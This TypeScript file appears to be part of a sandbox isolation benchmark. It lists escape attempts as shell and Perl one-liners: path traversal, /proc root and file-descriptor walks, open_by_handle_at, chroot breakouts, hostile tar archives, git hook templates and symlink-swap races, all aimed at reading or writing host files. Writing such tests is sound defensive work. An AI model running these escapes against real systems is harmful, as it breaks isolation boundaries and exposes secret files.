import { Readable } from "node:stream";
import { text } from "node:stream/consumers";
import { fileEntry } from "../isolation-bench.ts";
import type { Attempt, Attempts, Stage } from "./attempt.ts";
import { perl } from "./shell-text.ts";

const HOME = "/vercel/sandbox";

const read = async ({ files }: Stage, path: string) => {
  try {
    return await text((await files.read(path)).content);
  } catch (error) {
    return String(error);
  }
};
const write = async ({ files }: Stage, path: string) => {
  try {
    await files.write(Readable.from([fileEntry(path, "changed")]));
    return "";
  } catch (error) {
    return String(error);
  }
};

/** The engine reads what a program prepared. */
const readBy = (title: string, program: string): Attempt => ({
  title,
  as: "default-user",
  program,
  proof: "secret",
  weakened: "naive-files",
  afterwards: (stage) => read(stage, `${HOME}/link`),
});
/** The engine writes where a program prepared something. */
const writeBy = (title: string, program: string, path: string): Attempt => ({
  title,
  as: "default-user",
  program,
  proof: "mark",
  weakened: "naive-files",
  afterwards: (stage) => write(stage, `${HOME}/${path}`),
});

const SWAP = (target: string) =>
  `mkdir real; echo harmless >real/secret; ln -s real swap; target=${target}; export target
   ${perl(`$| = 1; my $n = 0; my $until = time + 8;
   while (time < $until) {
     for my $to ($ENV{target}, "real") { symlink($to, "next"); rename("next", "swap"); }
     print "holding\\n" if $n++ == 5;
   }`)}`;
/** As long as the engine goes on while a program swaps. */
const SWAPPING_MS = 1_500;

/** Ways along paths and links, of programs and of the engine's own files. */
export const pathAttempts: Attempts = {
  "paths: an absolute path of the host's": {
    title: "reads a file of the host's by its path",
    as: "default-user",
    program: 'cat "$SECRET_FILE"',
    proof: "secret",
    weakened: "process",
  },
  "paths: as root": {
    title: "reads a file of the host's by its path, as root",
    as: "root",
    program: 'cat "$SECRET_FILE"',
    proof: "secret",
    weakened: "process",
  },
  "paths: dots": {
    title: "climbs above the root by dots",
    as: "default-user",
    program: 'cat "../../../../../../../../../../../../..$SECRET_FILE"',
    proof: "secret",
    weakened: "process",
  },
  "paths: writing": {
    title: "makes a file where everybody of the host's may",
    as: "root",
    program: ': >"$OPEN_DIRECTORY/mark"',
    proof: "mark",
    weakened: "process",
  },
  "paths: cwd of processes": {
    title: "goes through what processes have as their directory",
    as: "root",
    program:
      'for each in /proc/[0-9]*/cwd /proc/self/cwd; do cat "$each/../../../../../..$SECRET_FILE" && exit; done',
    proof: "secret",
    weakened: "process",
  },
  "paths: roots of processes": {
    title: "goes through what any process has as its root",
    as: "root",
    program:
      'for each in /proc/[0-9]*/root /proc/[0-9]*/task/*/root; do cat "$each$SECRET_FILE" && exit; done',
    proof: "secret",
    weakened: "process",
  },
  "paths: descriptors of processes": {
    title: "goes through what any process has open",
    as: "root",
    program:
      'exec 8</; for each in /proc/$$/fd/* /proc/[0-9]*/fd/*; do for up in "" "/.."; do cat "$each$up$SECRET_FILE" && exit; done; done 2>/dev/null',
    proof: "secret",
    weakened: "process",
  },
  "paths: the root of the first process": {
    title: "goes through the roots of the first process and of its parent, as nobody special",
    as: "default-user",
    program:
      'for each in 1 $PPID; do cat "/proc/$each/root$SECRET_FILE" "/proc/$each/cwd/../../../../..$SECRET_FILE"; done',
    proof: "secret",
    weakened: "process",
  },
  "paths: a handle without a name": {
    title: "opens a file of the host's by its handle, on the disk that its own log lies on",
    as: "root",
    program: perl(`
      my $handle = pack("H*", $ENV{SECRET_HANDLE});
      for my $mount (1, 2) {
        my $fd = syscall($ENV{NR_open_by_handle_at}, $mount, $handle, 0);
        if ($fd >= 0) { open(my $file, "<&=", $fd); print <$file>; }
      }`),
    proof: "secret",
    weakened: "process",
  },
  "paths: a hard link": {
    title: "gives a file of the host's a second name",
    as: "root",
    program: 'ln "$OPEN_DIRECTORY/there" mine && echo changed >mine',
    proof: "mark",
    weakened: "process",
  },
  "paths: out of a chroot": {
    title: "leaves its root by the classic way out of a chroot",
    as: "root",
    program: perl(`
      mkdir "cell"; opendir(my $here, "."); chroot "cell" or die "chroot: $!";
      chdir $here; chdir ".." for 1 .. 64; chroot ".";
      open(my $file, "<", $ENV{SECRET_FILE}) or die "open: $!"; print <$file>;`),
    proof: "secret",
    weakened: "process",
  },
  "paths: a chroot of one's own": {
    title: "leaves its root by a chroot in a user namespace of its own",
    as: "default-user",
    program: `unshare --user --map-root-user ${perl(`
      mkdir "cell"; opendir(my $here, "."); chroot "cell" or die "chroot: $!";
      chdir $here; chdir ".." for 1 .. 64; chroot ".";
      open(my $file, "<", $ENV{SECRET_FILE}) or die "open: $!"; print <$file>;`)}`,
    proof: "secret",
    weakened: "process",
  },
  "paths: tar with absolute names": {
    title: "unpacks an archive whose names are absolute",
    as: "root",
    program:
      'echo changed >x; tar -P -c --transform "s#.*#$OPEN_DIRECTORY/mark#" -f evil.tar x; tar -P -xf evil.tar',
    proof: "mark",
    weakened: "process",
  },
  "paths: tar with dots": {
    title: "unpacks an archive whose names climb",
    as: "root",
    program:
      'echo changed >x; tar -P -c --transform "s#.*#../../../../../../../../..$OPEN_DIRECTORY/mark#" -f evil.tar x; tar -P -xf evil.tar',
    proof: "mark",
    weakened: "process",
  },
  "paths: tar with a link in between": {
    title: "unpacks an archive that goes through a link of its own",
    as: "default-user",
    program:
      'mkdir a b; ln -s "$OPEN_DIRECTORY" a/out; tar -C a -cf evil.tar out; mkdir b/out; echo changed >b/out/mark; tar -C b -rf evil.tar out/mark; mkdir c; tar --keep-directory-symlink -C c -xf evil.tar; tar -P --keep-directory-symlink -C c -xf evil.tar out/mark',
    proof: "mark",
    weakened: "process",
  },
  "paths: a hook of a repository": {
    title: "lets git run a hook of a repository that was cloned",
    as: "default-user",
    program: `mkdir template template/hooks; printf '#!/bin/sh\\n: >"%s/mark"\\n' "$OPEN_DIRECTORY" >template/hooks/post-checkout
      chmod 755 template/hooks/post-checkout; git init -q one; cd one
      git -c user.name=a -c user.email=a@b commit -q --allow-empty -m one; cd ..; git clone -q --template=template one two`,
    proof: "mark",
    weakened: "process",
  },
  "paths: a repository with a link": {
    title: "checks out a repository whose tree goes through a link",
    as: "default-user",
    program: `git init -q one; cd one; ln -s "$OPEN_DIRECTORY" out; git add out; git -c user.name=a -c user.email=a@b commit -qm one
      cd ..; git clone -q one two; echo changed >two/out/mark`,
    proof: "mark",
    weakened: "process",
  },
  "files: reading an absolute link": readBy(
    "has the engine read through a link to an absolute path",
    'ln -s "$SECRET_FILE" link',
  ),
  "files: reading a link that climbs": readBy(
    "has the engine read through a link that climbs",
    'ln -s "../../../../../../../../../../../../..$SECRET_FILE" link',
  ),
  "files: reading by /proc/self": readBy(
    "has the engine read through its own process's root",
    'ln -s "/proc/self/root$SECRET_FILE" link',
  ),
  "files: reading by a process": readBy(
    "has the engine read through the root of a process of the sandbox's",
    'ln -s "/proc/$$/root$SECRET_FILE" link; echo holding; exec sleep 9',
  ),
  "files: reading a chain of links": readBy(
    "has the engine read through links to links",
    'ln -s "$(dirname "$SECRET_FILE")" one; ln -s one two; ln -s two/secret link',
  ),
  "files: writing over a link": writeBy(
    "has the engine write over a link to a file of the host's",
    'ln -s "$OPEN_DIRECTORY/there" link',
    "link",
  ),
  "files: writing below a link": writeBy(
    "has the engine write below a link to a directory of the host's",
    'ln -s "$OPEN_DIRECTORY" link',
    "link/mark",
  ),
  "files: making below a link": {
    title: "has the engine make a directory below a link",
    as: "default-user",
    program: 'ln -s "$OPEN_DIRECTORY" link',
    proof: "mark",
    weakened: "naive-files",
    afterwards: async ({ files }) =>
      files
        .makeDirectory(`${HOME}/link/mark`, { recursive: true })
        .catch(String) as Promise<string>,
  },
  "files: writing by a path that climbs": writeBy(
    "has the engine write by a path that climbs",
    'mkdir -p up; ln -s "../../../../../../../../../../..$OPEN_DIRECTORY" up/link',
    "up/link/mark",
  ),
  "files: reading while a link is swapped": {
    title: "swaps a directory for a link while the engine reads",
    as: "default-user",
    program: SWAP('"$(dirname "$SECRET_FILE")"'),
    proof: "secret",
    weakened: "naive-files",
    async afterwards(stage) {
      const seen = new Set<string>();
      for (const end = Date.now() + SWAPPING_MS; Date.now() < end;)
        seen.add(await read(stage, `${HOME}/swap/secret`));
      return [...seen].join("\n");
    },
  },
  "files: writing while a link is swapped": {
    title: "swaps a directory for a link while the engine writes",
    as: "default-user",
    program: SWAP('"$OPEN_DIRECTORY"'),
    proof: "mark",
    weakened: "naive-files",
    async afterwards(stage) {
      const told = new Set<string>();
      for (const end = Date.now() + SWAPPING_MS; Date.now() < end;)
        told.add(await write(stage, `${HOME}/swap/mark`));
      return [...told].join("\n");
    },
  },
};
